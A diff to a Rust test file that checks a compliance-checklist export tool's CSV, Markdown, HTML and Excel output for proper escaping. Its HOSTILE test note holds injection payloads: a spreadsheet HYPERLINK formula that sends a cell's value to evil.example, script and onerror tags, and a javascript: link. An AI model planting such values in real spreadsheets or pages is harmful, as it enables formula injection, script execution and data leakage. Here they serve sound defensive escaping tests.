@@ -10,7 +10,7 @@ use std::io::Read;
 use std::path::Path;
 
 /// A note meant to become a formula, markup, a broken table and a mangled encoding.
-const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click me\") <script>alert('x')</script> <img src=x onerror=alert(1)> a | b ![t](http://evil.example/t.png) [l](javascript:alert(1)) *bold* `code` $x$ &amp; \\\nsecond line\r\nthird: Müller – 東京 😀 \u{202e}drowkcab";
+pub const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click me\") <script>alert('x')</script> <img src=x onerror=alert(1)> a | b ![t](http://evil.example/t.png) [l](javascript:alert(1)) *bold* `code` $x$ &amp; \\\nsecond line\r\nthird: Müller – 東京 😀 \u{202e}drowkcab";
 
 /// The ids the seed and the full catalog both have.
 const PARENT: &str = "intune.mdm-authority";
@@ -18,7 +18,7 @@ const CHILD: &str = "intune.mdm-authority.set";
 
 /// Contoso on Intune: the child done with a formula-like note, the parent blocked with the
 /// hostile note.
-fn engagement() -> Env {
+pub fn engagement() -> Env {
     let env = Env::new();
     env.init(&["--services", "intune"]);
     env.run(&["done", CHILD, "--note=-2+3 applied by @alice"])
@@ -27,7 +27,7 @@ fn engagement() -> Env {
     env
 }
 
-fn export(env: &Env, args: &[&str]) -> String {
+pub fn export(env: &Env, args: &[&str]) -> String {
     let mut all = vec!["export"];
     all.extend_from_slice(args);
     env.run(&all).ok().stdout
@@ -46,7 +46,7 @@ fn item_count(env: &Env) -> usize {
 // ---------------------------------------------------------------------------------------------
 // CSV
 
-fn csv_records(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
+pub fn csv_records(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
     let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
     let header = r.headers().unwrap().iter().map(str::to_owned).collect();
     let rows = r
@@ -56,7 +56,7 @@ fn csv_records(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
     (header, rows)
 }
 
-fn column(header: &[String], name: &str) -> usize {
+pub fn column(header: &[String], name: &str) -> usize {
     header
         .iter()
         .position(|h| h == name)
@@ -79,6 +79,10 @@ fn csv_parses_back_and_no_cell_can_become_a_formula() {
             "Applies",
             "Why not",
             "Status",
+            "Assignee",
+            "Due date",
+            "Next action",
+            "Overdue",
             "Last change (UTC)",
             "Changed by",
             "Note"
@@ -265,7 +269,7 @@ fn markdown_tables_are_well_formed_and_notes_stay_text() {
         .take_while(|l| l.starts_with('|'))
         .collect();
     let header = md_cells(table[0]);
-    assert_eq!(header.len(), 9);
+    assert_eq!(header.len(), 12);
     assert!(
         md_cells(table[1])
             .iter()
@@ -306,14 +310,50 @@ fn markdown_tables_are_well_formed_and_notes_stay_text() {
 // HTML
 
 /// The only tags the page may hold: anything else came from data that escaped its escaping.
-const TAGS: [&str; 25] = [
-    "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "header", "p", "h1", "h2", "dl",
-    "dt", "dd", "section", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "br",
+pub const TAGS: [&str; 39] = [
+    "!DOCTYPE",
+    "html",
+    "head",
+    "meta",
+    "title",
+    "style",
+    "body",
+    "header",
+    "p",
+    "h1",
+    "h2",
+    "dl",
+    "dt",
+    "dd",
+    "section",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "div",
+    "span",
+    "br",
     "footer",
+    "figure",
+    "figcaption",
+    "svg",
+    "line",
+    "text",
+    "polygon",
+    "polyline",
+    "circle",
+    "details",
+    "summary",
+    "ul",
+    "li",
+    "strong",
+    "em",
 ];
 
 /// Every `<` opens (or closes) an allowed tag; every text run decodes cleanly.
-fn check_html(html: &str) {
+pub fn check_html(html: &str) {
     for (i, _) in html.match_indices('<') {
         let tag = &html[i..i + html[i..].find('>').expect("an unclosed tag")];
         let lower = tag.to_ascii_lowercase();
@@ -351,11 +391,18 @@ fn html_unescape(s: &str) -> String {
         .replace("&amp;", "&")
 }
 
-/// The text of every `<td class="note">` cell, decoded.
-fn html_notes(html: &str) -> Vec<String> {
-    html.split("<td class=\"note\">")
+/// The note text of every `<td class="note">` cell, decoded (the time of the last change in
+/// its `<span class="when">` left out).
+pub fn html_notes(html: &str) -> Vec<String> {
+    html.split("<td class=\"note\"")
         .skip(1)
-        .map(|rest| html_unescape(&rest[..rest.find("</td>").unwrap()]))
+        .map(|rest| {
+            let rest = &rest[rest.find('>').unwrap() + 1..];
+            let cell = &rest[..rest.find("</td>").unwrap()];
+            let text = cell.split("<br><span class=\"when\">").next().unwrap();
+            let text = text.split("<span class=\"when\">").next().unwrap();
+            html_unescape(text)
+        })
         .collect()
 }
 
@@ -378,76 +425,16 @@ fn html_is_self_contained_and_escapes_every_value() {
     // Blocked first, then the full table: the note shows twice, exactly as written.
     let notes = html_notes(&html);
     assert_eq!(notes.iter().filter(|n| *n == HOSTILE).count(), 2);
-    let blocked = html.find("Blocked (1)").expect("a blocked section");
-    let all = html.find("All items (").expect("the full table");
+    let blocked = html.find("What we need from you").expect("a needs section");
+    let all = html.find("Applicable items (").expect("the full table");
     assert!(blocked < all);
     assert!(html.contains("class=\"fill\" style=\"width: 0.0%\""));
-}
-
-#[test]
-fn html_renders_in_chromium() {
-    let chromium = Path::new("/usr/bin/chromium");
-    if !chromium.exists() {
-        println!(
-            "SKIP html_renders_in_chromium: /usr/bin/chromium is not installed (apt-get install -y chromium)"
-        );
-        return;
-    }
-    let env = engagement();
-    env.run(&["export", "--format", "html", "-o", "report.html"])
-        .ok();
-    let page = env.join("report.html");
-    let url = format!("file://{}", page.display());
-    let profile = env.join("chromium-profile");
-    let shot = env.join("report.png");
-    let run = |extra: &[&str]| {
-        let out = std::process::Command::new("timeout")
-            .arg("120")
-            .arg(chromium)
-            .args([
-                "--headless",
-                "--no-sandbox",
-                "--disable-gpu",
-                "--disable-quic",
-                "--no-first-run",
-                "--disable-background-networking",
-                "--disable-component-update",
-                "--disable-sync",
-            ])
-            .arg(format!("--user-data-dir={}", profile.display()))
-            .args(extra)
-            .arg(&url)
-            .output()
-            .expect("run chromium");
-        assert!(
-            out.status.success(),
-            "chromium failed: {}",
-            String::from_utf8_lossy(&out.stderr)
-        );
-        String::from_utf8_lossy(&out.stdout).into_owned()
-    };
-    // The browser's own parser: no element came from a note, the note is there as text.
-    let dom = run(&["--dump-dom"]);
-    assert!(dom.contains("<h1>Contoso</h1>"), "{dom}");
-    assert!(!dom.contains("<script"), "a script element in the DOM");
-    assert!(!dom.contains("<img"), "an img element in the DOM");
-    assert!(html_notes(&dom).contains(&HOSTILE.replace("\r\n", "\n")));
-    run(&[
-        &format!("--screenshot={}", shot.display()),
-        "--window-size=1200,1600",
-    ]);
-    let mut png = Vec::new();
-    std::fs::File::open(&shot)
-        .expect("a screenshot")
-        .read_to_end(&mut png)
-        .unwrap();
-    assert!(png.starts_with(b"\x89PNG") && png.len() > 10_000);
 }
 
 // ---------------------------------------------------------------------------------------------
 // Excel
 
-fn unzip(path: &Path) -> std::collections::BTreeMap<String, String> {
+pub fn unzip(path: &Path) -> std::collections::BTreeMap<String, String> {
     let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
     (0..zip.len())
         .map(|i| {
@@ -500,7 +487,7 @@ fn xlsx_has_a_summary_and_an_items_sheet_and_no_formulas() {
     assert!(workbook.contains("name=\"Summary\"") && workbook.contains("name=\"Items\""));
     let items = &files["xl/worksheets/sheet2.xml"];
     assert!(items.contains("state=\"frozen\""), "frozen header row");
-    assert!(items.contains("<autoFilter ref=\"A1:K"), "autofilter");
+    assert!(items.contains("<autoFilter ref=\"A1:O"), "autofilter");
     assert!(items.contains("<col "), "column widths");
     for (name, xml) in &files {
         assert!(
@@ -699,6 +686,10 @@ fn normalise_times(s: &str) -> String {
         }
         if lit(i, " UTC") && (lit(i + 4, "+") || lit(i + 4, "-")) && digits(i + 5, 2) {
             i += 10;
+        } else if lit(i, " UTC") {
+            i += 4;
+        } else if (lit(i, " +") || lit(i, " -")) && digits(i + 2, 2) && lit(i + 4, ":") {
+            i += 7;
         }
         out.push_str("<time>");
     }
@@ -764,7 +755,10 @@ fn snapshot_csv() {
 #[test]
 fn normalise_times_replaces_both_spellings() {
     assert_eq!(
-        normalise_times("a 2026-11-05T10:00:00Z b 2026-11-05 10:00 UTC+01:00 c 2026-11-05"),
-        "a <time> b <time> c 2026-11-05"
+        normalise_times(
+            "a 2026-11-05T10:00:00Z b 2026-11-05 10:00 UTC+01:00 c 2026-11-05 d 2026-11-05 \
+             10:00 UTC e 2026-11-05 10:00 +01:00 f"
+        ),
+        "a <time> b <time> c 2026-11-05 d <time> e <time> f"
     );
 }
